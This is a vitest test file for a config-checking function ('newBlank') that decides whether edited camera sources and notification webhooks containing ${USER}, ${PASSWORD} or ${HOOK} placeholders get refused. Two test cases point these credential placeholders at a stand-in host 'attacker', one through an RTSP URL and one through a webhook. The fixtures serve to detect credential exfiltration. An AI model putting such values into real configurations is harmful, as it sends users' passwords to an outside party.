import { expect, test } from 'vitest';
import { newBlank } from './blanks.ts';

const CAMERA = 'rtsp://${USER}:${PASSWORD}@camera/1';
const before = { cameras: [{ id: 'a', source: CAMERA }], notify: { desk: { webhook: '${HOOK}' } } };

test.each([
  ['kept', before, null],
  ['dropped', { cameras: [] }, null],
  ['kept by another camera', { cameras: [{ id: 'b', source: CAMERA }] }, null],
  ['of another name', { cameras: [{ id: 'a', source: 'rtsp://${HOME}@camera/1' }] }, 'rtsp://${HOME}@camera/1'],
  [
    'sent elsewhere',
    { cameras: [{ id: 'a', source: CAMERA.replace('camera', 'attacker') }] },
    'rtsp://${USER}:${PASSWORD}@attacker/1',
  ],
  [
    'sent as something else',
    { notify: { x: { webhook: 'http://attacker/${PASSWORD}' } } },
    'http://attacker/${PASSWORD}',
  ],
])('a text with a name in it that is %s', (_, after, refused) => {
  expect(newBlank(before, after)).toBe(refused);
});
